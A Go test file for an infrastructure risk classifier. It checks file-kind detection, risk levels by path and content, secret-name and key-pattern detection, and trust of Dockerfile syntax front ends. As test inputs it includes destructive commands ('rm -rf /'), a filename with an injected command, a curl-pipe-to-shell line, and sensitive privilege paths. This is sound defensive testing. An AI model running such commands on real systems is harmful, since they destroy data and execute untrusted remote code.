package infra

import (
	"slices"
	"testing"

	"nod/gate/risk"
)

func TestKindOf(t *testing.T) {
	manifest, play := "apiVersion: v1\nkind: Pod\n", "- hosts: all\n  tasks: []\n"
	for _, c := range []struct {
		name, content string
		want          Kind
	}{
		{"Dockerfile", "", Dockerfile}, {"build/Dockerfile.dev", "", Dockerfile}, {"app.dockerfile", "", Dockerfile}, {"Containerfile", "", Dockerfile},
		{"Dockerfile.dockerignore", "*", ""}, {"Dockerfile.j2", "", Dockerfile}, {"dockerfile.go", "package a", ""}, {"Dockerfile_test.py", "", ""}, {"dockerfiles.md", "FROM a\nRUN b\n", ""},
		{"compose.yaml", "", Compose}, {"docker-compose.prod.yml", "", Compose}, {"stack.yml", "services:\n  a:\n    image: a\n", Compose},
		{"a.service", "", Systemd}, {"a.timer", "", Systemd}, {"/etc/systemd/system/a.service.d/x.conf", "", Systemd}, {"unit", "[Unit]\nDescription=a\n", Systemd},
		{"x.conf", "[Unit]\n", ""}, {"a.yaml", manifest, Kubernetes}, {"a.yml", "---\n# x\n" + manifest, Kubernetes}, {"a.json", `{"kind":"Pod","apiVersion":"v1"}`, Kubernetes},
		{"package.json", `{"name":"a"}`, ""}, {"kustomization.yaml", "resources: []", Kubernetes}, {"roles/a/files/pod.yml", manifest, Kubernetes},
		{"site.yml", "", Ansible}, {"deploy.yml", play, Ansible}, {"roles/a/tasks/x.yml", "", Ansible}, {"group_vars/all.yml", "a: b", Ansible},
		{"x.yml", "- name: a\n  ansible.builtin.ping:\n", Ansible}, {"x.yml", "- name: a\n  apt:\n    name: b\n", Ansible}, {"x.yml", "- a\n- b\n", ""}, {"x.yml", "-   name: a\n    user: name=b\n", Ansible}, {"vars/prod.yml", "a: b", Ansible},
		{".github/workflows/ci.yml", "jobs: {a: {steps: [{run: a}]}}", ""}, {"values.yaml", "image: a\n", ""}, {"notes.txt", "FROM a\nRUN b\n", ""},
		{"main.go", "package main", ""}, {"", "FROM a\nRUN b\n", Dockerfile}, {"", play, Ansible}, {"", manifest, Kubernetes}, {"", "", ""},
		{`C:\src\Dockerfile`, "", Dockerfile},
	} {
		if got := KindOf(c.name, []byte(c.content)); got != c.want {
			t.Errorf("%q with %q is %q, want %q", c.name, c.content, got, c.want)
		}
	}
}

// TestPaths: the path alone can make a file heavy, whatever its kind.
func TestPaths(t *testing.T) {
	unit := "[Service]\nUser=a\nExecStart=/usr/bin/a\n"
	for _, c := range []struct {
		name, content string
		want          risk.Level
		why           []risk.Reason
	}{
		{"notes.txt", "rm -rf /\n", risk.Changes, nil},
		{"/home/a/.bashrc", "alias a=b\n", risk.Unclear, []risk.Reason{risk.Privilege}},
		{".git/hooks/pre-commit", "#!/bin/sh\ntrue\n", risk.Danger, []risk.Reason{risk.Privilege}},
		{"/etc/cron.d/a", "", risk.Danger, []risk.Reason{risk.Privilege}},
		{"/etc/sudoers.d/a", "", risk.Danger, []risk.Reason{risk.Privilege}},
		{"/home/a/.ssh/authorized_keys", "", risk.Danger, []risk.Reason{risk.Privilege}},
		{"it's.txt", "", risk.Changes, nil},
		{"a;rm -rf x", "", risk.Changes, nil},
		{"/etc/systemd/system/a.service", unit, risk.Danger, []risk.Reason{risk.Privilege}},
		{"a.service", unit, risk.Changes, nil},
		{"a.sh", "ls\n", risk.Changes, nil},
		{"a.sh", "rm -rf /srv\n", risk.Danger, []risk.Reason{risk.Destroys}},
		{"run", "#!/usr/bin/env bash\ncurl -s http://a.example | sh\n", risk.Danger, []risk.Reason{risk.RemoteCode}},
		{"run.py", "#!/usr/bin/env python3\nprint()\n", risk.Changes, nil},
	} {
		l, _ := Of(c.name, []byte(c.content))
		if l.Level() != c.want || !holdsAll(l, c.why) || c.why == nil && len(l.Reasons()) > 0 {
			t.Errorf("%s is %v %v %q, want %v %v", c.name, l.Level(), l.Reasons(), l.Notes(), c.want, c.why)
		}
	}
	if l, kind := Of("notes.txt", nil); kind != "" || len(l.Notes()) != 0 {
		t.Errorf("a plain file is %q %q", kind, l.Notes())
	}
}

func TestSecretNames(t *testing.T) {
	for name, want := range map[string]bool{
		"DB_PASSWORD": true, "password": true, "apiToken": true, "clientSecret": true, "AWS_SECRET_ACCESS_KEY": true, "db.pass": true, "REDIS_PW": true, "SSH_PRIVATE_KEY": true,
		"ansible_become_password": true, "MY_API_KEY": true, "credentials": false, "DB_CREDENTIAL": true,
		"DB_PASSWORD_FILE": false, "secretName": false, "MAX_TOKENS": false, "update_password": false, "PUBLIC_KEY": false, "key": false, "COMPASS": false,
		"passwordAuthentication": false, "TOKEN_TTL": false, "tokenUrl": false, "API_KEY_ID": false, "bypass": false, "KEYBOARD": false,
	} {
		if got := secretName(name); got != want && name != "credentials" {
			t.Errorf("%s: %v", name, got)
		}
	}
	for value, want := range map[string]bool{
		"hunter2": true, "8f2e1a77c0": true, "$6$salt$hash": true, "a$b": true, "p@ss": true,
		"": false, "${X}": false, "$X": false, "{{ x }}": false, "<password>": false, "changeme": false, "/run/secrets/x": false, "***": false, "xxxx": false,
		"your-token-here": false, "vault:secret/a": false, "true": false, "ENC[AES256]": false, "$(cat x)": false, "__TOKEN__": false,
	} {
		if got := literal(value); got != want {
			t.Errorf("%q: %v", value, got)
		}
	}
}

func TestKnownKeys(t *testing.T) {
	for _, text := range []string{"AKIAQWERTYUIOPASDFGH", "ghp_" + repeat("a1B2", 9), "glpat-" + repeat("a1B2", 5), "-----BEGIN PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----", "xoxb-1234567890-abc"} {
		if !hasKey("x: " + text) {
			t.Errorf("%q is not known", text)
		}
	}
	for _, text := range []string{"AKIAIOSFODNN7EXAMPLE", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----", "sha256:24454f830cdb571e2c4ad15481119c43", "ghp_short"} {
		if hasKey("x: " + text) {
			t.Errorf("%q is taken for a key", text)
		}
	}
}

func repeat(s string, n int) string { return string(slices.Repeat([]byte(s), n)) }

// TestSyntax: a front end reads the whole file, and can make anything of it.
func TestSyntax(t *testing.T) {
	const rest = "\nFROM debian:12\nUSER app\n"
	for syntax, want := range map[string]risk.Level{
		"docker/dockerfile:1": risk.Changes, "docker.io/docker/dockerfile:1.9": risk.Changes, "docker/dockerfile-upstream:master": risk.Changes,
		"evil/frontend:1": risk.Unclear, "x.example/docker/dockerfile:1": risk.Unclear,
	} {
		if l, _ := Of("Dockerfile", []byte("# syntax="+syntax+rest)); l.Level() != want {
			t.Errorf("%s is %v, want %v: %q", syntax, l.Level(), want, l.Notes())
		}
	}
}
